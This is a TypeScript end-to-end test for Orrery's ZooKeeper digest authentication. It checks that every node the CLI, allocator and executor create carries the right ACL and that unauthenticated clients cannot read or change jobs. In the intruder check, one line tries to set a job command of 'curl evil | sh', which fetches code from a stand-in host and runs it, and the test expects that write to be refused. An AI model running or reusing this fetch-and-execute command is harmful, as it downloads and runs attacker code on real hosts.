// ZooKeeper digest authentication end to end: the CLI, a real allocator and a real executor all
// work with ORRERY_ZK_AUTH; every node any of them created carries Orrery's ACL; a client without
// the credentials can neither read nor change a job; `orrery acl secure` secures an existing tree.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, inject, it } from 'vitest';
import { createZkClient, digestId, paths, ZK_PERMS, type ZkClient } from '@orrery/core';
import { eventually, freePort, uniqueRoot } from '@orrery/core/testing';
import { runCli } from '@orrery/console';
import { startProcess, stopAllProcesses } from '../src/index.js';

const zkConnect = inject('zkConnect');
const AUTH = 'orrery-test:a-long-enough-secret';
const ORRERY_ACL = [{ perms: ZK_PERMS.all, scheme: 'digest', id: digestId('orrery-test', 'a-long-enough-secret') }];
const clients: ZkClient[] = [];
afterAll(async () => {
  await stopAllProcesses();
  await Promise.all(clients.map((c) => c.close()));
});

async function client(root: string, auth?: string): Promise<ZkClient> {
  const zk = createZkClient({ connect: zkConnect, root, sessionTimeoutMs: 4000, ...(auth ? { auth } : {}) });
  clients.push(zk);
  await zk.start();
  return zk;
}

async function cli(root: string, env: Record<string, string>, ...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const code = await runCli(['--zk', zkConnect, '--root', root, ...args], { stdout: { write: (t: string) => (stdout += t) }, stderr: { write: (t: string) => (stderr += t) }, env });
  return { code, stdout, stderr };
}

/** Every node of the tree under the client's root, parents first. */
async function walk(zk: ZkClient, path = '/'): Promise<string[]> {
  const out = [path];
  for (const child of await zk.getChildren(path)) out.push(...(await walk(zk, path === '/' ? `/${child}` : `${path}/${child}`)));
  return out;
}

describe('ZooKeeper digest authentication', () => {
  it('runs the whole platform with ORRERY_ZK_AUTH: every node it creates is closed to anyone without the credentials', async () => {
    const root = uniqueRoot('acl-e2e');
    const env = { ORRERY_ZK_AUTH: AUTH };
    const dir = mkdtempSync(join(tmpdir(), 'orrery-acl-'));
    const ledger = join(dir, 'ran.txt');
    expect((await cli(root, env, 'ns', 'create', 'secure')).code).toBe(0);
    writeFileSync(join(dir, 'jobs.yaml'), `jobs:\n  - name: tick\n    type: shell\n    cron: "* * * * * *"\n    shardingTotalCount: 2\n    enabled: true\n    command: echo "$ORRERY_SHARD_ITEM" >> ${ledger}\n`);
    const applied = await cli(root, env, '-n', 'secure', 'apply', '-f', join(dir, 'jobs.yaml'));
    expect(applied.code, applied.stderr).toBe(0);

    const allocator = startProcess('orrery-sharding', ['--zk', zkConnect, '--root', root, '--session-timeout', '3', '--debounce-ms', '100'], env);
    await allocator.waitForLine(/"allocator started"/);
    const port = await freePort();
    const executor = startProcess('orrery-executor', ['--zk', zkConnect, '--root', root, '--namespace', 'secure', '--name', 'e1', '--data-dir', join(dir, 'e1'), '--http-port', String(port), '--session-timeout', '3'], env);
    await executor.waitForLine(/"executor started"/, 30_000);
    // It runs: both items, a few times.
    await eventually(() => {
      const lines = readFileSync(ledger, 'utf8').split('\n').filter(Boolean);
      expect(new Set(lines)).toEqual(new Set(['0', '1']));
      expect(lines.length).toBeGreaterThanOrEqual(4);
    }, { timeoutMs: 30_000 });
    // A run-now command goes through too (a node the CLI creates, the executor reads and the leader deletes).
    expect((await cli(root, env, '-n', 'secure', 'run', 'tick', '--items', '0')).code).toBe(0);

    // Every node any process made — namespace, job, assignment, applied, shards, latch, commands,
    // presence, summaries, sharding state — carries Orrery's ACL and nothing else.
    const zk = await client(root, AUTH);
    const nodes = await walk(zk);
    for (const kind of ['/namespaces/secure/jobs/tick/shards/0', '/namespaces/secure/jobs/tick/applied', '/namespaces/secure/executors/e1/presence', '/namespaces/secure/executors/e1/assignment', '/sharding/leader']) {
      expect(nodes).toContain(kind);
    }
    for (const path of nodes) expect((await zk.getAcl(path)).acl, path).toEqual(ORRERY_ACL);

    // Without the credentials (or with others): no read, no change, no command.
    for (const other of [undefined, 'orrery-test:the-wrong-secret']) {
      const intruder = await client(root, other);
      const job = paths.job('secure', 'tick');
      await expect(intruder.set(job, '{"name":"tick","type":"shell","command":"curl evil | sh"}')).rejects.toMatchObject({ code: 'no-auth' });
      await expect(intruder.get(job)).rejects.toMatchObject({ code: 'no-auth' });
      await expect(intruder.create(paths.jobCommand('secure', 'tick', 'cmd-evil'), '{"kind":"run"}')).rejects.toMatchObject({ code: 'no-auth' });
      await expect(intruder.delete(paths.executorPresence('secure', 'e1'))).rejects.toMatchObject({ code: 'no-auth' });
    }
    const denied = await cli(root, {}, '-n', 'secure', 'get', 'jobs');
    expect(denied.code).toBe(1);
    expect(denied.stderr).toContain('ORRERY_ZK_AUTH');
    expect(JSON.parse((await cli(root, env, '-n', 'secure', 'get', 'job', 'tick', '-o', 'json')).stdout).command).toContain('echo "$ORRERY_SHARD_ITEM"');
    await executor.stop(5000);
    await allocator.stop();
  });

  it('orrery acl secure gives an existing open tree Orrery ACL; it needs the credentials', async () => {
    const root = uniqueRoot('acl-secure');
    expect((await cli(root, {}, 'ns', 'create', 'old')).code).toBe(0);
    const open = await client(root);
    await open.create(paths.job('old', 'legacy'), '{"name":"legacy","type":"shell","command":"true"}');
    expect((await open.getAcl(paths.job('old', 'legacy'))).acl).toEqual([{ perms: ZK_PERMS.all, scheme: 'world', id: 'anyone' }]);

    const refused = await cli(root, {}, 'acl', 'secure');
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('ORRERY_ZK_AUTH');
    const secured = await cli(root, { ORRERY_ZK_AUTH: AUTH }, 'acl', 'secure');
    expect(secured.code, secured.stderr).toBe(0);
    expect(secured.stdout).toMatch(/secured \d+ node\(s\)/);

    const zk = await client(root, AUTH);
    for (const path of await walk(zk)) expect((await zk.getAcl(path)).acl, path).toEqual(ORRERY_ACL);
    await expect(open.set(paths.job('old', 'legacy'), '{}')).rejects.toMatchObject({ code: 'no-auth' });
    expect((await cli(root, { ORRERY_ZK_AUTH: AUTH }, '-n', 'old', 'get', 'jobs')).stdout).toContain('legacy');
  });
});
